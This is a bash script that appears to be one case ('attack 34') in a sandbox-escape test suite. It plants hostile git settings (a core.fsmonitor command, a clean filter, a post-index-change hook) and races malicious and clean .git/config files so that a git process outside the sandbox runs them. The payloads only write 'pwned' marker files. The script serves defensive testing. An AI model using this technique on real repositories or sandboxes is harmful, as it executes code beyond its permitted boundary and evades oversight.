#!/usr/bin/env bash
# attack 34 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
echo x >attack-34.txt; git add attack-34.txt; commit -m 'attack 34'
cp .git/config .git/config.clean
cp .git/config .git/config.evil0; git config -f .git/config.evil0 core.fsmonitor "date >>'$H/pwned-34-fsmonitor'; :"; git config -f .git/config.evil0 filter.e.clean "date >>'$H/pwned-34-clean'; cat"
mkdir -p .git/info; echo '* filter=e' >>.git/info/attributes
mkdir -p .git/hooks; printf '#!/bin/sh\ndate >"%s/pwned-34-hook"\n' "$H" >.git/hooks/post-index-change; chmod 755 .git/hooks/post-index-change
end=$(( $(date +%s) + 6 ))
while [ "$(date +%s)" -lt "$end" ]; do
  cp .git/config.evil0 .git/config.new && mv -f .git/config.new .git/config; echo y >>attack-34.txt; sleep 0.4
  cp .git/config.clean .git/config.new && mv -f .git/config.new .git/config; sleep 0.1
done
rm -f .git/config.evil0 .git/config.clean .git/info/attributes .git/hooks/post-index-change
git checkout -q -- attack-34.txt
exit 0
